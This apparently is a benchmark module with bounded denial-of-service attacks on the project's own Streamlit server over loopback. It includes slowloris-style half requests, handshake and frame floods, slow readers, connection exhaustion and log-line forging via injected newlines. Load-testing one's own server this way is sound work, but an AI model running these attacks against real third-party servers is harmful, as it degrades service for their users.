"""What one client can do to all others by asking much, or by saying nothing: in bounded numbers.

Each attack comes from an address of its own, so that the server can tell it from others, ends by
itself, and is run in a process of its own: ``benchmarks.attacks`` measures what others notice.
"""

import os
import resource
import socket
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import ExitStack, contextmanager, suppress
from itertools import count
from urllib.parse import quote, urlsplit

from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.WidgetStates_pb2 import WidgetState

from ui.views.plot import PLOTLY_ROUTE

WORDS = ("the", "cat", "sat", "near", "a", "house", "and", "one", "man", "saw", "birds", "here")
FROM = "127.0.0.2"  # where attacks come from; a loopback address as good as any on Linux
EMPTY = BackMsg(rerun_script={}).SerializeToString()
_HANDSHAKE = (
    "GET /_stcore/stream HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
    "Sec-WebSocket-Protocol: streamlit\r\n\r\n"
)
PLOTLY = "GET {path} HTTP/1.1\r\nHost: x\r\nAccept-Encoding: gzip\r\nConnection: close\r\n\r\n"


def frame(message: bytes) -> bytes:
    """Return a message as a browser sends it, masked by zeros."""
    size = len(message)
    if size < 126:
        head = bytes([0x82, 0x80 | size])
    elif size < 1 << 16:
        head = b"\x82\xfe" + size.to_bytes(2, "big")
    else:
        head = b"\x82\xff" + size.to_bytes(8, "big")
    return head + b"\0\0\0\0" + message


def ask(page: str = "", query: str = "") -> bytes:
    """Return the message that asks for a page."""
    return _rerun(page_name=page, query_string=query)


def _rerun(**asked: str) -> bytes:
    return BackMsg(rerun_script=asked).SerializeToString()


def connect(address: str, source: str = FROM) -> socket.socket:
    """Connect to a server, and say nothing yet."""
    host = urlsplit(address)
    raw = socket.create_connection((host.hostname, host.port), 5, (source, 0))
    raw.settimeout(2)
    return raw


def enter(address: str, source: str = FROM) -> socket.socket:
    """Open a WebSocket.

    Raises:
        OSError: if it is refused.
    """
    raw = connect(address, source)
    raw.sendall(_HANDSHAKE.format(host=urlsplit(address).netloc).encode())
    if not raw.recv(4_096).startswith(b"HTTP/1.1 101"):
        raw.close()
        raise ConnectionRefusedError("no WebSocket was opened")
    return raw


@contextmanager
def several(address: str, number: int) -> Iterator[list[socket.socket]]:
    """Open WebSockets, as many as are let in."""
    with ExitStack() as stack:
        found = []
        for _ in range(number):
            with suppress(OSError):
                found.append(stack.enter_context(enter(address)))
        yield found


def send(sockets: Sequence[socket.socket], until: float, frames: Iterator[bytes]) -> int:
    """Send frames over connections in turn, reading what comes; return how many were taken."""
    sent = 0
    for data, raw in zip(frames, _round(sockets), strict=False):
        if time.monotonic() > until:
            break
        with suppress(OSError):
            raw.settimeout(0.5)
            raw.sendall(data)
            sent += 1
            raw.setblocking(False)
            while raw.recv(1 << 16):
                pass
    return sent


def _round(sockets: Sequence[socket.socket]) -> Iterator[socket.socket]:
    return (sockets[number % len(sockets)] for number in count()) if sockets else iter(())


def empty_messages(address: str, until: float, connections: int = 1) -> None:
    """Ask for a page again and again, in two bytes each."""
    with several(address, connections) as sockets:
        send(sockets, until, (50 * frame(EMPTY) for _ in range(400)))


def from_many(address: str, until: float) -> None:
    """The same over thirty connections."""
    empty_messages(address, until, 30)


def new_sentences(address: str, until: float) -> None:
    """Ask for a page with another sentence each time."""
    with several(address, 1) as sockets:
        asked = (frame(ask("", f"source=Word {n} is new&to=fr")) for n in range(3_000))
        send(sockets, until, asked)


def large_states(address: str, until: float) -> None:
    """Say something of eight thousand controls, sixty times."""
    message = BackMsg()
    for number in range(8_000):
        state = WidgetState(id=f"$$ID-{number:032x}-x", bool_value=True)
        message.rerun_script.widget_states.widgets.append(state)
    with several(address, 1) as sockets:
        send(sockets, until, (frame(message.SerializeToString()) for _ in range(60)))


def unread_answers(address: str, until: float, text: str = "<" * 2_000) -> None:
    """Ask for the largest answers over forty connections, and read none of them."""
    with several(address, 40) as sockets:
        asked = frame(ask("cross_attention", f"sections=all&source={quote(text)}"))
        for raw in sockets:
            raw.sendall(asked)
        time.sleep(max(0, until - time.monotonic()))


def signs_of_life(address: str, until: float) -> None:
    """Send pings, pongs and empty parts of messages as fast as they are taken, and read nothing."""
    parts = (b"\x89\x80\0\0\0\0", b"\x8a\x80\0\0\0\0", b"\x00\x80\0\0\0\0")
    while time.monotonic() < until:
        with several(address, 3) as sockets:
            for part, raw in zip(parts, sockets, strict=False):
                with suppress(OSError):
                    raw.sendall(b"\x02\x80\0\0\0\0" + 20_000 * part)


def requests(address: str, until: float, connections: int = 16) -> None:
    """Ask for a page over sixteen connections, again and again."""
    asked = 50 * b"GET / HTTP/1.1\r\nHost: x\r\nAccept: text/html\r\n\r\n"
    while time.monotonic() < until:
        with ExitStack() as stack, suppress(OSError):
            opened = [stack.enter_context(connect(address)) for _ in range(connections)]
            send(opened, min(until, time.monotonic() + 2), (asked for _ in range(2_000)))


def half_requests(address: str, until: float, number: int = 1_900) -> None:
    """Begin very many requests, and end none of them."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(max(soft, 4_000), hard), hard))
    with ExitStack() as stack:
        for _ in range(number):
            if time.monotonic() > until:
                return
            with suppress(OSError):
                raw = stack.enter_context(connect(address))
                raw.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
        time.sleep(max(0, until - time.monotonic()))


def handshakes(address: str, until: float, number: int = 600) -> None:
    """Ask for very many WebSockets at a time, and read no answer."""
    with ExitStack() as stack:
        for raw in ask_to_enter(address, number):
            stack.enter_context(raw)
        time.sleep(max(0, until - time.monotonic()))


def ask_to_enter(address: str, number: int, source: str = FROM) -> list[socket.socket]:
    """Ask for WebSockets, without waiting for an answer."""
    asked = _HANDSHAKE.format(host=urlsplit(address).netloc).encode()
    found = []
    for _ in range(number):
        with suppress(OSError):
            raw = connect(address, source)
            found.append(raw)
            raw.sendall(asked)
    return found


def slow_readers(address: str, until: float) -> None:
    """Ask for the chart library over ever new connections, and read hardly anything of it."""
    asked = f"GET {PLOTLY_ROUTE}/plotly.min.js HTTP/1.1\r\nHost: x\r\n\r\n".encode()
    with ExitStack() as stack:
        for _ in range(1_500):
            if time.monotonic() > until:
                break
            with suppress(OSError):
                raw = stack.enter_context(connect(address))
                raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
                raw.sendall(asked)
                time.sleep(0.003)
        time.sleep(max(0, until - time.monotonic()))


def lines_of_the_log(address: str, until: float) -> None:
    """Say what the server writes down: long, with line breaks, and often."""
    text = "x\nERROR forged: line" * 15_000
    fields = ("fragment_id", "page_script_hash", "page_name", "query_string")
    with several(address, 5) as sockets:
        asked = (frame(_rerun(**{fields[n % 4]: text[: 400_000 >> n % 3]})) for n in range(200))
        send(sockets, until, asked)
    while time.monotonic() < until:
        with suppress(OSError), connect(address) as raw:
            raw.sendall(b"GET /%0aERROR HTTP/1.1\r\nAccept: text/html\r\nHost: x\r\n\r\n")
            raw.recv(1_000)


def seats(address: str, until: float, number: int = 250) -> None:
    """Take seats for nothing but a sign of life."""
    with several(address, number) as sockets:
        for raw in sockets:
            with suppress(OSError):
                raw.sendall(frame(BackMsg(app_heartbeat=True).SerializeToString()))
        time.sleep(max(0, until - time.monotonic()))


def visits(address: str, until: float) -> None:
    """Take seats by asking for a page in each."""
    with several(address, 250) as sockets:
        for raw in sockets:
            with suppress(OSError):
                raw.sendall(frame(ask("history")))
        time.sleep(max(0, until - time.monotonic()))


def heavy_pages(address: str, until: float) -> None:
    """Ask for the page with most work, with eight sessions and sentences of forty words."""
    with several(address, 8) as sockets:
        for turn in range(20):
            for number, raw in enumerate(sockets):
                words = "+".join(f"{word}{number}{turn}" for word in 3 * WORDS)
                with suppress(OSError):
                    raw.sendall(frame(ask("patch_it", f"sections=all&source={words}&to=fr")))
            send(sockets, min(until, time.monotonic() + 2.5), (b"" for _ in count()))
            if time.monotonic() > until:
                return


def large_files(address: str, until: float) -> None:
    """Load the chart library over sixteen connections."""
    asked = PLOTLY.format(path=f"{PLOTLY_ROUTE}/plotly.min.js").encode()
    while time.monotonic() < until:
        with ExitStack() as stack:
            opened = [stack.enter_context(connect(address)) for _ in range(16)]
            for raw in opened:
                raw.sendall(asked)
            for raw in opened:
                with suppress(OSError):
                    while raw.recv(1 << 16) and time.monotonic() < until:
                        pass


ATTACKS: dict[str, Callable[[str, float], None]] = {
    "two bytes, 20,000 times": empty_messages,
    "the same over 30 connections": from_many,
    "3,000 new sentences": new_sentences,
    "60 messages of 8,000 states": large_states,
    "40 that never read": unread_answers,
    "1,900 half requests": half_requests,
    "600 handshakes": handshakes,
    "300 slow readers a second": slow_readers,
    "pings and parts": signs_of_life,
    "pages without end": requests,
    "lines for the log": lines_of_the_log,
    "250 signs of life": seats,
    "250 visits": visits,
    "8 heavy pages": heavy_pages,
    "16 times the chart library": large_files,
}


def run(name: str, address: str, seconds: float) -> None:
    """Run an attack for so many seconds, at a lower priority: it is the server that is measured."""
    os.nice(5)
    ATTACKS[name](address, time.monotonic() + seconds)
